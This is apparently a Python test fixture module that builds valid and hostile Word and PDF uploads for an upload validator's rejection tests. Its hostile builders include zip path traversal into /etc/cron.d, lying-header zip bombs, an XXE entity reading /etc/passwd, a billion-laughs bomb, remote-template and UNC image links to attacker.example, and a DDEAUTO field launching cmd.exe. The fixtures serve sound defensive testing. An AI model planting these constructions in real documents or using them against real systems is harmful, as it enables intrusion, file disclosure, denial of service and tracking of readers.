"""Builders of good and hostile upload files, for every part's upload tests.

    from tests.fixtures_uploads import docx_bytes, pdf_bytes, docm_bytes, zip_bomb_bytes

Every builder returns bytes made here (nothing is read from disk). The good ones are real
documents (python-docx, fpdf2); the hostile ones are the tricks check_upload refuses.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REL_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# -- good files -----------------------------------------------------------------------------
def docx_bytes(paragraphs=("A short guide for liaison and diversion staff.",),
               title: str = "Test guide") -> bytes:
    """A valid Word document made with python-docx."""
    from docx import Document
    document = Document()
    document.core_properties.title = title
    document.add_heading(title, level=1)
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def pdf_bytes(lines=("A short guide for liaison and diversion staff.",), title: str = "Test guide",
              pages: int = 1) -> bytes:
    """A valid PDF made with fpdf2."""
    from fpdf import FPDF
    pdf = FPDF(format="A4")
    pdf.set_title(title)
    for number in range(pages):
        pdf.add_page()
        pdf.set_font("Helvetica", "B", 18)
        pdf.cell(0, 12, title if number == 0 else f"{title} (page {number + 1})",
                 new_x="LMARGIN", new_y="NEXT")
        pdf.set_font("Helvetica", size=12)
        for line in lines:
            pdf.multi_cell(0, 7, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def large_pdf_bytes(size: int = 10 * 1024 * 1024) -> bytes:
    """A valid one-page PDF of about `size` bytes (a large incompressible image-like stream
    kept as an unreferenced object), for download and streaming tests."""
    import random
    text = b"BT /F1 18 Tf 72 720 Td (Large guide for download tests) Tj ET"
    filler = random.Random(7).randbytes(max(0, size - 1200))
    return _pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(filler) + filler + b"\nendstream",
    ])


# -- rewriting a zip package ---------------------------------------------------------------
def _rezip(source: bytes, *, replace: dict | None = None, add: dict | None = None,
           drop: tuple = ()) -> bytes:
    """A copy of zip `source` with members replaced, added or dropped."""
    replace, add = dict(replace or {}), dict(add or {})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename in drop:
                continue
            data = replace.pop(info.filename, None)
            new.writestr(info.filename, data if data is not None else old.read(info.filename))
        for name, data in add.items():
            new.writestr(name, data)
    return out.getvalue()


def _read_member(source: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        return archive.read(name).decode("utf-8")


def _with_relationship(source: bytes, rel_type: str, target: str, external: bool) -> bytes:
    rels_name = "word/_rels/document.xml.rels"
    rels = _read_member(source, rels_name)
    mode = ' TargetMode="External"' if external else ""
    extra = f'<Relationship Id="rIdHostile" Type="{rel_type}" Target="{target}"{mode}/>'
    rels = rels.replace("</Relationships>", extra + "</Relationships>")
    return _rezip(source, replace={rels_name: rels.encode()})


def _with_body_xml(source: bytes, xml: str) -> bytes:
    """Insert raw WordprocessingML at the start of the document body."""
    doc = _read_member(source, "word/document.xml")
    start = doc.index("<w:body>") + len("<w:body>")
    doc = doc[:start] + xml + doc[start:]
    return _rezip(source, replace={"word/document.xml": doc.encode()})


# -- hostile Word files ----------------------------------------------------------------------
def docm_bytes() -> bytes:
    """A macro-enabled Word document (.docm): macro content type and a vbaProject part."""
    source = docx_bytes()
    types = _read_member(source, "[Content_Types].xml")
    types = types.replace(DOCX_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
    types = types.replace("</Types>", '<Default Extension="bin" '
                          'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    return _rezip(source, replace={"[Content_Types].xml": types.encode()},
                  add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0fake macro storage"})


def docm_renamed_macro_part_bytes() -> bytes:
    """A .docm whose content types were edited to look like a .docx, but still carries
    its macro project."""
    return _rezip(docx_bytes(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"})


def renamed_zip_bytes() -> bytes:
    """An ordinary zip archive renamed to .docx."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", "not a Word document")
    return out.getvalue()


def zip_without_document_bytes() -> bytes:
    """A package with [Content_Types].xml but no word/document.xml."""
    return _rezip(docx_bytes(), drop=("word/document.xml",))


def encrypted_ooxml_bytes() -> bytes:
    """What Word writes for a password-protected .docx: an OLE compound file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"EncryptedPackage" * 32


def encrypted_member_bytes() -> bytes:
    """A .docx whose zip entries are marked as encrypted (general-purpose flag bit 0)."""
    return _append_raw_member(docx_bytes(), "word/secret.bin", zlib.compress(b"x")[2:-4],
                              declared_size=1, crc=zlib.crc32(b"x"), flags=0x1)


def traversal_docx_bytes() -> bytes:
    """A .docx with a member named ../../etc/cron.d/evil."""
    return _rezip(docx_bytes(), add={"../../etc/cron.d/evil": b"* * * * * root true"})


def absolute_path_docx_bytes() -> bytes:
    return _rezip(docx_bytes(), add={"/etc/passwd": b"root:x:0:0"})


def duplicate_member_docx_bytes() -> bytes:
    """A .docx with word/document.xml twice (which copy a reader uses differs)."""
    import warnings
    source = docx_bytes()
    out = io.BytesIO(source)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("word/document.xml", b"<w:document/>")
    return out.getvalue()


def zip_bomb_bytes(unpacked: int = 64 * 1024 * 1024) -> bytes:
    """A .docx-looking zip whose extra member unpacks to `unpacked` bytes of zeros while
    its headers declare 1 KB (lying sizes, so ratio checks on headers see nothing)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\x00" * (1024 * 1024)
    compressed = b"".join(compressor.compress(block) for _ in range(unpacked // len(block)))
    compressed += compressor.flush()
    return _append_raw_member(docx_bytes(), "word/media/padding.bin", compressed,
                              declared_size=1024, crc=0)


def zip_bomb_honest_bytes(unpacked: int = 60 * 1024 * 1024) -> bytes:
    """A zip that declares its huge unpacked size truthfully (ratio > 1000:1)."""
    return _rezip(docx_bytes(), add={"word/media/zeros.bin": b"\x00" * unpacked})


def _append_raw_member(source: bytes, name: str, compressed: bytes, *, declared_size: int,
                       crc: int, flags: int = 0) -> bytes:
    """Rebuild the zip `source` with one more deflated member written by hand, with the
    sizes and CRC given (which may lie)."""
    members = []
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        for info in archive.infolist():
            members.append((info.filename, archive.read(info.filename)))
    out = io.BytesIO()
    central = []

    def write(name_bytes, method, data, size, crc_value, flag=0):
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flag, method, 0, 0x21,
                              crc_value, len(data), size, len(name_bytes), 0))
        out.write(name_bytes)
        out.write(data)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flag, method, 0,
                                   0x21, crc_value, len(data), size, len(name_bytes), 0, 0,
                                   0, 0, 0, offset) + name_bytes)

    for member_name, data in members:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        packed = compressor.compress(data) + compressor.flush()
        write(member_name.encode(), 8, packed, len(data), zlib.crc32(data))
    write(name.encode(), 8, compressed, declared_size, crc, flags)
    start = out.tell()
    for record in central:
        out.write(record)
    size = out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size,
                          start, 0))
    return out.getvalue()


def too_many_members_bytes(count: int = 1500) -> bytes:
    source = docx_bytes()
    return _rezip(source, add={f"word/media/p{n}.bin": b"x" for n in range(count)})


XXE_DOCTYPE = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
LAUGHS_DOCTYPE = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n')


def xxe_docx_bytes() -> bytes:
    """A .docx whose document.xml declares an external entity (XXE)."""
    source = docx_bytes()
    doc = _read_member(source, "word/document.xml")
    doc = doc.split("?>", 1)[1] if doc.startswith("<?xml") else doc
    doc = XXE_DOCTYPE + doc.replace("<w:body>", "<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", 1)
    return _rezip(source, replace={"word/document.xml": doc.encode()})


def entity_expansion_docx_bytes() -> bytes:
    """A .docx whose [Content_Types].xml carries a 'billion laughs' entity bomb."""
    source = docx_bytes()
    types = _read_member(source, "[Content_Types].xml")
    types = types.split("?>", 1)[1] if types.startswith("<?xml") else types
    return _rezip(source, replace={"[Content_Types].xml": (LAUGHS_DOCTYPE + types).encode()})


def external_relationship_docx_bytes() -> bytes:
    """A .docx that makes Word fetch a remote template when opened."""
    return _with_relationship(docx_bytes(), f"{REL_BASE}/attachedTemplate",
                              "http://attacker.example/template.dotm", external=True)


def external_image_docx_bytes() -> bytes:
    """A .docx with a picture linked from another computer (leaks who opened it)."""
    return _with_relationship(docx_bytes(), f"{REL_BASE}/image",
                              "\\\\attacker.example\\share\\pixel.png", external=True)


def hyperlink_docx_bytes() -> bytes:
    """A .docx with an ordinary web link (allowed: nothing is fetched until clicked)."""
    return _with_relationship(docx_bytes(), f"{REL_BASE}/hyperlink",
                              "https://www.nhs.uk/mental-health/", external=True)


def altchunk_docx_bytes() -> bytes:
    """A .docx that imports another file's content (altChunk)."""
    source = _with_relationship(docx_bytes(), f"{REL_BASE}/aFChunk", "chunk.html", external=False)
    source = _rezip(source, add={"word/chunk.html": b"<html><body>imported</body></html>"})
    return _with_body_xml(source, '<w:altChunk r:id="rIdHostile"/>')


def ole_object_docx_bytes() -> bytes:
    """A .docx with an embedded OLE object."""
    source = _with_relationship(docx_bytes(), f"{REL_BASE}/oleObject",
                                "embeddings/oleObject1.bin", external=False)
    return _rezip(source, add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0ole"})


def dde_docx_bytes() -> bytes:
    """A .docx with a DDEAUTO field (runs a command when the document is opened), its
    instruction split across runs as Word does."""
    xml = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
           '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
           '"/k calc.exe"</w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return _with_body_xml(docx_bytes(), xml)


# -- hostile and odd PDFs --------------------------------------------------------------------
def encrypted_pdf_bytes() -> bytes:
    """A password-protected PDF."""
    from pypdf import PdfReader, PdfWriter
    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(pdf_bytes())).pages:
        writer.add_page(page)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_from_objects(objects: list[bytes]) -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


def looping_pdf_bytes() -> bytes:
    """A PDF whose page tree contains itself (a reader that follows it never ends)."""
    return _pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ])


def damaged_pdf_bytes() -> bytes:
    """Starts like a PDF, is not one."""
    return b"%PDF-1.7\n" + b"this is not a pdf body\n" * 20


def pdf_disguised_as_docx() -> tuple[str, bytes]:
    """(file name, bytes): a PDF named guide.docx (the name must not matter)."""
    return "guide.docx", pdf_bytes()


def empty_bytes() -> bytes:
    return b""


def oversize_bytes(size: int = 30 * 1024 * 1024) -> bytes:
    """30 MB that starts like a PDF (the size check must come first)."""
    return b"%PDF-1.4\n" + b"0" * (size - 9)
